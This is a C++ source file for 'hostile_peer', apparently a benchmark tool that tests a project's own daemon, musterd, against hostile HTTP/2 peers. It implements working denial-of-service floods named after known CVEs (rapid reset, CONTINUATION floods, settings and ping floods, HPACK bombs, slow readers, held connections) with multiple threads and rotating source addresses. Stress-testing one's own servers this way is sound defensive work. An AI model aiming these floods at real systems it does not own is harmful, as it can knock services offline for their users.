// hostile_peer SCENE ADDRESS [--identity FILE] [--sources A,B] [--connections N] [--seconds N]
// [--count N]: does to musterd's door what a hostile peer would. Without an identity it has no
// certificate, and sends all the same. Prints one JSON line. hostile_peer list: the scenes.
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <functional>
#include <map>
#include <optional>
#include <random>
#include <thread>
#include <vector>

#include "CLI/CLI.hpp"
#include "absl/strings/str_split.h"
#include "bench/hostile_hellos.h"
#include "network/testing/hostile_connection.h"

namespace muster::bench {
namespace {

constexpr char kPingCall[] = "/muster.v1.ClusterService/Ping";
constexpr char kListCall[] = "/muster.v1.JobService/List";
constexpr char kConnectCall[] = "/muster.v1.AgentService/Connect";
constexpr size_t kBatchBytes = 64 << 10, kFrameBytes = 16 << 10;
constexpr uint32_t kMostStreams = 1u << 30;
const std::string kEmptyMessage(5, '\0');

// What goes over one connection again and again; `n` counts from 0. Each call gives some frames.
using Flood = std::function<std::string(uint64_t n)>;

uint32_t Stream(uint64_t n) { return static_cast<uint32_t>(2 * (n % kMostStreams) + 1); }

std::string Reset(uint64_t n, std::string_view path, uint8_t flags) {
  return Frame(kHeaders, kEndHeaders | flags, Stream(n), CallHeaders(path)) +
         Frame(kReset, 0, Stream(n), BigEndian(8));
}

// A header of 4,000 bytes in the table, and then blocks that name it 16,000 times.
std::string Bomb(uint64_t n) {
  if (n == 0)
    return Frame(kHeaders, kEndHeaders, 1,
                 CallHeaders(kPingCall) + Header("x", std::string(4000, 'x'), true));
  return Frame(kHeaders, kEndHeaders, Stream(n),
               CallHeaders(kPingCall) + std::string(kFrameBytes - 200, '\xbe'));
}

std::string Rubbish(uint64_t n) {
  std::mt19937_64 random(n * 7919 + std::random_device()());
  if (n % 50 == 49)  // what follows is read as a frame that was never begun
    return std::string(1 + random() % 50, static_cast<char>(random()));
  std::string payload(random() % 200, '\0');
  for (char& c : payload) c = static_cast<char>(random());
  return Frame(static_cast<FrameType>(random() % 12), static_cast<uint8_t>(random()),
               random() % 3 == 0 ? 0 : static_cast<uint32_t>(random() % 20), payload);
}

struct Scene {
  const char* what;
  Flood flood;
  bool reads = true;        // takes what the server answers
  uint32_t window = 65535;  // that it leaves to the server's data
};

std::string Announced(uint64_t n) {  // a message of 4 MiB less a byte, of which a little comes
  return Frame(kHeaders, kEndHeaders, Stream(n), CallHeaders(kPingCall)) +
         Frame(kData, 0, Stream(n), std::string(1, '\0') + BigEndian((4 << 20) - 1) + "some");
}

const std::map<std::string, Scene>& Scenes() {
  static const std::string settings = Frame(kSettings, 0, 0, std::string("\0\4\0\0\xff\xff", 6));
  static const std::map<std::string, Scene> scenes = {
      {"rapid-reset",
       {"CVE-2023-44487: calls that are reset at once",
        [](uint64_t n) { return Reset(n, kPingCall, kEndStream); }}},
      {"rapid-reset-streams",
       {"the same with a call that streams", [](uint64_t n) { return Reset(n, kConnectCall, 0); }}},
      {"rapid-reset-calls",
       {"the same with the whole request before",
        [](uint64_t n) {
          return Frame(kHeaders, kEndHeaders, Stream(n), CallHeaders(kPingCall)) +
                 Frame(kData, kEndStream, Stream(n), kEmptyMessage) +
                 Frame(kReset, 0, Stream(n), BigEndian(8));
        }}},
      {"continuation",
       {"CVE-2024-27316: headers that never end",
        [](uint64_t n) {
          if (n == 0) return Frame(kHeaders, 0, 1, CallHeaders(kPingCall));
          return Frame(kContinuation, 0, 1, Header("x", std::string(kFrameBytes - 100, 'x')));
        }}},
      {"empty-continuation",
       {"the same without a byte in them",
        [](uint64_t n) {
          return n == 0 ? Frame(kHeaders, 0, 1, CallHeaders(kPingCall))
                        : Frame(kContinuation, 0, 1, "");
        }}},
      {"settings", {"CVE-2019-9515: settings", [](uint64_t) { return settings; }, false}},
      {"ping",
       {"CVE-2019-9512: pings", [](uint64_t) { return Frame(kPing, 0, 0, std::string(8, 'p')); },
        false}},
      {"hpack-bomb", {"headers that are small in the table's words", Bomb}},
      {"table-sizes",
       {"sizes of the table, in each block",
        [](uint64_t n) {
          return Frame(kHeaders, kEndHeaders, Stream(n),
                       std::string("\x20\x3f\xe1\x1f", 4) + CallHeaders(kPingCall));
        }}},
      {"open-streams",
       {"calls that are begun and left",
        [](uint64_t n) {
          return Frame(kHeaders, kEndHeaders, Stream(n), CallHeaders(kPingCall));
        }}},
      {"half-messages", {"messages that are announced and left", Announced}},
      {"slow-reader",
       {"CVE-2019-9511: answers that are not taken",
        [](uint64_t n) {
          return Frame(kHeaders, kEndHeaders, Stream(n), CallHeaders(kListCall)) +
                 Frame(kData, kEndStream, Stream(n), kEmptyMessage);
        },
        false, 0}},
      {"empty-data",
       {"CVE-2019-9518: data without a byte",
        [](uint64_t n) {
          return n == 0 ? Frame(kHeaders, kEndHeaders, 1, CallHeaders(kPingCall))
                        : Frame(kData, 0, 1, "");
        }}},
      {"priority",
       {"CVE-2019-9513: priorities",
        [](uint64_t n) { return Frame(kPriority, 0, Stream(n % 1000), std::string(5, '\1')); }}},
      {"windows",
       {"a byte more of window",
        [](uint64_t) { return Frame(kWindowUpdate, 0, 0, BigEndian(1)); }}},
      {"rubbish", {"frames by chance", Rubbish}},
  };
  return scenes;
}

struct Options {
  std::string scene, address, identity_file;
  std::vector<std::string> sources;
  int connections = 4;
  int64_t seconds = 5;
  uint64_t count = 1000;
  uint64_t seed = 1;
};

struct Counts {
  std::atomic<uint64_t> connections = 0, refused = 0, frames = 0, ended = 0, received = 0;
};

void RunFlood(const Scene& scene, const TlsClient& client, const Options& options, int number,
              Counts* counts) {
  const int64_t until_ms = NowMs() + options.seconds * 1000;
  const std::string source =
      options.sources.empty() ? "" : options.sources[number % options.sources.size()];
  while (NowMs() < until_ms) {
    HostileConnection connection(client, options.address, source);
    if (!connection.open()) {
      ++counts->refused;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
      continue;
    }
    ++counts->connections;
    connection.Send(Preface(scene.window));
    for (uint64_t n = 0;
         connection.open() && NowMs() < until_ms && n < 2 * uint64_t{kMostStreams};) {
      std::string batch;
      for (; batch.size() < kBatchBytes; ++n) batch += scene.flood(n);
      connection.Send(batch);
      counts->frames += 1;
      if (scene.reads) connection.Drain();
    }
    counts->ended += !connection.open();
    connection.Drain(20);
    counts->received += connection.received();
  }
}

// Opens so many connections and keeps them; `whole`: with the handshake.
int Hold(const Options& options, const TlsClient& client, bool whole, size_t bytes_of_hello) {
  const std::string hello = client.Hello();
  std::vector<std::unique_ptr<HostileConnection>> kept;
  std::vector<int> fds;
  const int64_t until_ms = NowMs() + options.seconds * 1000;
  for (uint64_t n = 0; n < options.count && NowMs() < until_ms; ++n) {
    const std::string source =
        options.sources.empty() ? "" : options.sources[n % options.sources.size()];
    if (whole) {
      kept.push_back(std::make_unique<HostileConnection>(client, options.address, source));
      if (!kept.back()->open()) kept.pop_back();
      continue;
    }
    const int fd = Begin(options.address, source);
    if (fd < 0) continue;
    pollfd connected{fd, POLLOUT, 0};
    if (poll(&connected, 1, 1000) == 1)
      (void)send(fd, hello.data(), std::min(hello.size(), bytes_of_hello), MSG_NOSIGNAL);
    fds.push_back(fd);
  }
  const size_t begun = kept.size() + fds.size();
  const int64_t left_ms = until_ms - NowMs();
  if (left_ms > 0) std::this_thread::sleep_for(std::chrono::milliseconds(left_ms));
  size_t open = 0;
  uint64_t received = 0;
  for (const auto& connection : kept) {
    connection->Drain();
    open += connection->open();
    received += connection->received();
  }
  for (const int fd : fds) {
    char byte;
    const ssize_t got = recv(fd, &byte, 1, MSG_DONTWAIT);
    open += got > 0 || (got < 0 && errno == EAGAIN);
    close(fd);
  }
  std::printf("{\"scene\": \"%s\", \"begun\": %zu, \"open\": %zu, \"received\": %llu}\n",
              options.scene.c_str(), begun, open, static_cast<unsigned long long>(received));
  return 0;
}

int Hellos(const Options& options) {
  const HelloCounts counts = SayHellos(options.address, options.sources, options.count,
                                       options.seed, NowMs() + options.seconds * 1000);
  const auto number = [](uint64_t n) { return static_cast<unsigned long long>(n); };
  std::printf(
      "{\"scene\": \"hellos\", \"said\": %llu, \"alerts\": %llu, \"answered\": %llu, "
      "\"silent\": %llu, \"strange\": %llu, \"unended\": %llu, \"no_connection\": %llu}\n",
      number(counts.said), number(counts.alerts), number(counts.answered), number(counts.silent),
      number(counts.strange), number(counts.unended), number(counts.no_connection));
  return 0;
}

int Run(const Options& options) {
  if (options.scene == "list") {
    for (const auto& [name, scene] : Scenes()) std::printf("%s\t%s\n", name.c_str(), scene.what);
    return 0;
  }
  std::optional<Identity> identity;
  if (!options.identity_file.empty()) {
    absl::StatusOr<Identity> loaded = LoadIdentity(options.identity_file);
    if (!loaded.ok()) {
      std::fprintf(stderr, "%s\n", std::string(loaded.status().message()).c_str());
      return 2;
    }
    identity = *std::move(loaded);
  }
  const TlsClient client(identity.has_value() ? &*identity : nullptr);
  if (options.scene == "hellos") return Hellos(options);
  if (options.scene == "hold-silent") return Hold(options, client, false, 0);
  if (options.scene == "hold-half") return Hold(options, client, false, 100);
  if (options.scene == "hold-hello") return Hold(options, client, false, SIZE_MAX);
  if (options.scene == "hold-open") return Hold(options, client, true, 0);
  const auto scene = Scenes().find(options.scene);
  if (scene == Scenes().end()) {
    std::fprintf(stderr, "no scene %s: hostile_peer list\n", options.scene.c_str());
    return 2;
  }
  Counts counts;
  std::vector<std::thread> threads;
  for (int i = 0; i < options.connections; ++i)
    threads.emplace_back([&, i] { RunFlood(scene->second, client, options, i, &counts); });
  for (std::thread& thread : threads) thread.join();
  const auto number = [](const std::atomic<uint64_t>& n) {
    return static_cast<unsigned long long>(n.load());
  };
  std::printf(
      "{\"scene\": \"%s\", \"connections\": %llu, \"refused\": %llu, \"batches\": %llu, "
      "\"ended\": %llu, \"received\": %llu}\n",
      options.scene.c_str(), number(counts.connections), number(counts.refused),
      number(counts.frames), number(counts.ended), number(counts.received));
  return 0;
}

int Main(int argc, char** argv) {
  Options options;
  std::string sources;
  CLI::App app{"What a hostile peer does to musterd's doors.", "hostile_peer"};
  app.add_option("scene", options.scene)->required();
  app.add_option("address", options.address, "ADDRESS:PORT");
  app.add_option("--identity", options.identity_file, "Of a host or a user: its certificate");
  app.add_option("--sources", sources, "Addresses of this machine, in turn");
  app.add_option("--connections", options.connections);
  app.add_option("--seconds", options.seconds);
  app.add_option("--count", options.count, "Of hellos, or of connections that are kept");
  app.add_option("--seed", options.seed);
  CLI11_PARSE(app, argc, argv);
  if (!sources.empty()) options.sources = absl::StrSplit(sources, ',');
  return Run(options);
}

}  // namespace
}  // namespace muster::bench

int main(int argc, char** argv) { return muster::bench::Main(argc, argv); }
